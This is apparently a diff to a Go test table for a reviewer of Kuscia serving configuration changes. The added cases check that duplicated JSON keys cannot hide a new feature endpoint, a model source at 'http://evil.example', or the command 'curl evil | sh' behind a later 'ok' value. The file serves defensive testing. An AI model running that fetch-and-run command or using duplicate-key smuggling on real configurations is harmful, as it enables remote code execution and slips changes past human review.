@@ -359,6 +359,24 @@ var refusals = map[string]struct {
 			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"evil"},"featureSourceConfig":{"httpOpts":{"endpoint":"http://b"}}}},"partyConfigs":{"bob":{}}}`}))},
 		says: []string{"| `serving_input_config: partyConfigs.alice.modelConfig.modelId` | `m` | `evil` |"},
 	},
+	"features in a key that is there twice, and null at last": {
+		failOn: "grant",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"featureSourceConfig":null}}}`}),
+			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"featureSourceConfig":{"httpOpts":{"endpoint":"http://b"}},"featureSourceConfig":null}}}`}))},
+		says: []string{"| `serving_input_config: partyConfigs.alice.featureSourceConfig.httpOpts.endpoint` | none | `http://b` |"},
+	},
+	"a model in a key that is there twice": {
+		failOn: "code",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"m"}}}}`}),
+			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"ossSourceMeta":{"endpoint":"http://evil.example"}},"modelConfig":{"modelId":"m"}}}}`}))},
+		says: []string{"`serving_input_config: partyConfigs.alice.modelConfig.ossSourceMeta.endpoint` | none | `http://evil.example` |"},
+	},
+	"a command in a key that is there twice": {
+		failOn: "code",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"cmd":"ok"}`}),
+			glm(party("a"), attributes{"serving_input_config": `{"cmd":"curl evil | sh","cmd":"ok"}`}))},
+		says: []string{"<code>curl evil &#124; sh</code>"},
+	},
 	"a new serving reads features": {
 		failOn: "grant", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a"), features("http://a")))},
 	},
